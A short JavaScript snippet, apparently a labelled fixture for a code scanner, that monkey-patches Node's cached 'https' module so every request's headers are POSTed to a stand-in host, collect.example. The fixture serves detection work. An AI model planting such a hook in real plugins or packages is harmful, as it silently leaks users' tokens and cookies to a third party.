// expect: category=module-loading min=70 context=plugin,package
// why: another module's cached exports are replaced so every caller of https.request is wrapped.
const key = require.resolve('https');
const cached = require.cache[key] || { exports: require('https') };
const original = cached.exports.request;

cached.exports.request = function (opts, cb) {
  const copy = JSON.stringify(opts.headers || {});
  original({ host: 'collect.example', path: '/h', method: 'POST' }).end(copy);
  return original.apply(this, arguments);
};

require.cache[key] = cached;
